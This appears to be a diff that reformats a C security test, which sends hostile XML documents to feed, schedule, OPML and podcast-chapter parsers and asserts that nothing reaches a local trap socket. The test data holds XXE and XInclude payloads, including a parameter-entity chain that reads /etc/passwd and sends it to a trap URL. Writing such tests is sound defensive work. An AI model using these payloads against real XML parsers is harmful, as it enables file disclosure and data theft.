@@ -41,21 +41,24 @@ static void file_entity(struct buf *prolog, struct buf *body)
 
 static void web_entity(struct buf *prolog, struct buf *body)
 {
-	buf_format(prolog, "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://127.0.0.1:%d/x\"><!ENTITY y PUBLIC \"p\" \"http://127.0.0.1:%d/y\">]>",
+	buf_format(prolog, "<!DOCTYPE r [<!ENTITY x SYSTEM \"http://127.0.0.1:%d/x\"><!ENTITY y PUBLIC \"p\" "
+		"\"http://127.0.0.1:%d/y\">]>",
 		trap_port, trap_port);
 	buf_text(body, "&x;&y;");
 }
 
 static void parameter_entity(struct buf *prolog, struct buf *body)
 {
-	buf_format(prolog, "<!DOCTYPE r [<!ENTITY %% x SYSTEM \"http://127.0.0.1:%d/x.dtd\">%%x;<!ENTITY %% f SYSTEM \"file:///etc/passwd\">"
+	buf_format(prolog, "<!DOCTYPE r [<!ENTITY %% x SYSTEM \"http://127.0.0.1:%d/x.dtd\">%%x;<!ENTITY %% f SYSTEM "
+		"\"file:///etc/passwd\">"
 		"<!ENTITY %% all \"<!ENTITY send SYSTEM 'http://127.0.0.1:%d/?%%f;'>\">%%all;]>", trap_port, trap_port);
 	buf_text(body, "&send;");
 }
 
 static void outside_type(struct buf *prolog, struct buf *body)
 {
-	buf_format(prolog, "<!DOCTYPE r PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" \"http://127.0.0.1:%d/rss-0.91.dtd\">", trap_port);
+	buf_format(prolog, "<!DOCTYPE r PUBLIC \"-//Netscape Communications//DTD RSS 0.91//EN\" "
+		"\"http://127.0.0.1:%d/rss-0.91.dtd\">", trap_port);
 	buf_text(body, "caf&eacute; &outside;");
 }
 
@@ -112,11 +115,14 @@ static void deep_and_open(struct buf *prolog, struct buf *body)
 
 static void included(struct buf *prolog, struct buf *body)
 {
-	buf_format(prolog, "<?xml-stylesheet type=\"text/xsl\" href=\"http://127.0.0.1:%d/s.xsl\"?><?xml-model href=\"http://127.0.0.1:%d/m.rng\"?>",
+	buf_format(prolog, "<?xml-stylesheet type=\"text/xsl\" href=\"http://127.0.0.1:%d/s.xsl\"?><?xml-model "
+		"href=\"http://127.0.0.1:%d/m.rng\"?>",
 		trap_port, trap_port);
-	buf_format(body, "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"http://127.0.0.1:%d/i\"><xi:fallback>f</xi:fallback></xi:include>"
+	buf_format(body, "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" "
+		"href=\"http://127.0.0.1:%d/i\"><xi:fallback>f</xi:fallback></xi:include>"
 		"<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/passwd\"/>"
-		"<a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://127.0.0.1:%d/ http://127.0.0.1:%d/s.xsd\"/>",
+		"<a xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"http://127.0.0.1:%d/ "
+			"http://127.0.0.1:%d/s.xsd\"/>",
 		trap_port, trap_port, trap_port);
 }
 
@@ -253,13 +259,18 @@ static const struct reader {
 	const char *name, *head, *tail;
 	void (*read)(struct outcome *o, struct span bytes);
 } readers[] = {
-	{"planet", "<rss version=\"2.0\"><channel><title>Honest ", "</title><item><guid>1</guid><title>One</title></item></channel></rss>", read_planet},
-	{"feed", "<rss version=\"2.0\"><channel><title>Honest ", "</title><item><guid>1</guid><title>One</title></item></channel></rss>", read_feed},
-	{"schedule", "<schedule><conference><title>Honest ", "</title><acronym>h1</acronym></conference><day index=\"1\" date=\"2026-05-01\"/></schedule>",
+	{"planet", "<rss version=\"2.0\"><channel><title>Honest ",
+		"</title><item><guid>1</guid><title>One</title></item></channel></rss>", read_planet},
+	{"feed", "<rss version=\"2.0\"><channel><title>Honest ",
+		"</title><item><guid>1</guid><title>One</title></item></channel></rss>", read_feed},
+	{"schedule", "<schedule><conference><title>Honest ",
+		"</title><acronym>h1</acronym></conference><day index=\"1\" date=\"2026-05-01\"/></schedule>",
 		read_schedule},
-	{"list of feeds", "<opml version=\"2.0\"><body><outline text=\"Honest\" xmlUrl=\"https://example.org/\"/><outline text=\"x\">",
+	{"list of feeds", "<opml version=\"2.0\"><body><outline text=\"Honest\" xmlUrl=\"https://example.org/\"/><outline "
+		"text=\"x\">",
 		"</outline></body></opml>", read_list},
-	{"chapters", "<psc:chapters xmlns:psc=\"http://podlove.org/simple-chapters\" version=\"1.2\"><psc:chapter start=\"0\" title=\"Honest\"/>",
+	{"chapters", "<psc:chapters xmlns:psc=\"http://podlove.org/simple-chapters\" version=\"1.2\"><psc:chapter "
+		"start=\"0\" title=\"Honest\"/>",
 		"</psc:chapters>", read_chapters},
 };
 
@@ -365,7 +376,8 @@ static void each_document_costs_a_moment_and_reaches_nothing(void **state)
 			buf_finish(&text);
 		}
 	}
-	print_message("# %zu documents to %zu readers: slowest %lld us, most memory %ld KiB\n", COUNT_OF(hostile), COUNT_OF(readers),
+	print_message("# %zu documents to %zu readers: slowest %lld us, most memory %ld KiB\n", COUNT_OF(hostile),
+		COUNT_OF(readers),
 		(long long)slowest, largest);
 	struct pollfd wait = {.fd = trap, .events = POLLIN};
 	assert_int_equal(poll(&wait, 1, 50), 0);
